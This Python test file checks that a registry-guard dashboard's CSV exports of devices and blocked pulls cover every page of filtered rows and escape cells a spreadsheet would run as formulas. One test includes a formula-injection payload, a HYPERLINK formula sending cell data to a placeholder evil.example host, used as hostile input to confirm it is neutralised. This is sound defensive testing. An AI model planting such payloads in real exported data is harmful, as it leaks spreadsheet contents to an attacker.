"""CSV downloads of Devices and Blocked pulls: the filtered rows, every page of them, and no
cell a spreadsheet would run as a formula (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from regward.server.dashboard.exports import FORMULA_STARTS, safe_cell
from regward.server.services import denials, devices, orgs
from tests.server.conftest import World
from tests.server.fleet import DEVICES, STATES, seed_fleet

ORG = "/api/v1/orgs/acme"


@given(st.text(max_size=40) | st.sampled_from(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]))
def test_no_cell_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


def test_cells_of_other_types() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(7) == "7"
    assert safe_cell(-3) == "'-3"  # a negative number would be read as a formula, too
    assert safe_cell(True) == "True"


def rows(answer_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer_text)))


@pytest.fixture
def fleet(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    seed_fleet(world.database, world.settings, datetime.now(UTC))
    # Small batches, so the fleet's few rows cross several of them.
    monkeypatch.setattr(devices, "EXPORT_BATCH", 4)
    monkeypatch.setattr(denials, "EXPORT_BATCH", 3)
    world.client.cookies.set("regward_session", world.tokens["bob"])  # a member may download
    return world


def test_devices_csv_has_the_filtered_rows_of_every_page(fleet: World) -> None:
    c = fleet.client
    everything = c.get("/orgs/acme/devices.csv")
    assert everything.status_code == 200
    assert everything.headers["content-type"] == "text/csv; charset=utf-8"
    assert everything.headers["content-disposition"].startswith(
        'attachment; filename="regward-acme-devices-'
    )
    listed = rows(everything.text)
    assert sorted(row["agent_id"] for row in listed) == sorted(DEVICES)
    assert {state: sum(r["state"] == state for r in listed) for state in STATES} == STATES
    unprotected = rows(c.get("/orgs/acme/devices.csv", params={"state": "unprotected"}).text)
    assert {row["agent_id"] for row in unprotected} == {"unp-authz", "unp-proxy"}
    assert {row["docker_engine"] for row in unprotected} == {"not protected"}
    bad = c.get("/orgs/acme/devices.csv", params={"revision": "seven"})
    assert bad.status_code == 422 and "is not a revision" in bad.text
    assert c.get("/orgs/evilcorp/devices.csv").status_code == 404


def test_blocked_csv_has_the_filtered_rows_newest_first(fleet: World) -> None:
    c = fleet.client
    listed = rows(c.get("/orgs/acme/blocked.csv").text)
    assert len(listed) == 9  # every denial of acme, none of evilcorp's
    # As the list orders them: the last reported first.
    assert listed[0]["reference"] == "NOT A REFERENCE"
    assert listed[-1]["reference"] == "ghcr.io/acme/app:1"
    ghcr = rows(c.get("/orgs/acme/blocked.csv", params={"registry": "GHCR.io"}).text)
    assert len(ghcr) == 6 and {row["registry"] for row in ghcr} == {"ghcr.io"}
    page = c.get("/orgs/acme/blocked", params={"registry": "ghcr.io"}).text
    assert 'id="denials-count">6 blocked pulls' in page
    assert "/orgs/acme/blocked.csv?registry=ghcr.io" in page


def test_what_agents_wrote_is_never_a_formula_in_the_file(fleet: World) -> None:
    c = fleet.client
    agent = fleet.headers("bob_read")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    checked = c.post(
        f"{ORG}/devices/check-in",
        json={"agent_id": "@evil", "revision": 2, "hostname": hostile, "refusal": "+1+1"},
        headers=agent,
    )
    assert checked.status_code == 200, checked.text
    reported = c.post(
        f"{ORG}/denials",
        json={"reference": "-ghcr.io/x", "action": "pull", "reason": "=1+1", "agent_id": "@evil"},
        headers=agent,
    )
    assert reported.status_code == 201, reported.text
    (device,) = rows(c.get("/orgs/acme/devices.csv", params={"search": "evil"}).text)
    assert device["hostname"] == "'" + hostile
    assert device["agent_id"] == "'@evil" and device["refusal"] == "'+1+1"
    (denial,) = rows(c.get("/orgs/acme/blocked.csv", params={"device": "@evil"}).text)
    assert denial["reference"] == "'-ghcr.io/x" and denial["reason"] == "'=1+1"
    for text in (c.get("/orgs/acme/devices.csv").text, c.get("/orgs/acme/blocked.csv").text):
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def test_a_check_in_during_an_export_neither_repeats_nor_drops_a_device(fleet: World) -> None:
    with fleet.database.session() as session:
        acme = orgs.get(session, "acme")
        assert acme is not None
        rows = devices.export(session, acme)
        first = [next(rows).device.agent_id for _ in range(devices.EXPORT_BATCH)]
        # The last device of the export checks in now: first by last seen, last by id.
        c = fleet.client
        answer = c.post(
            f"{ORG}/devices/check-in",
            json={"agent_id": "unp-proxy", "revision": 2},
            headers=fleet.headers("bob_read"),
        )
        assert answer.status_code == 200, answer.text
        rest = [status.device.agent_id for status in rows]
    assert sorted(first + rest) == sorted(DEVICES)
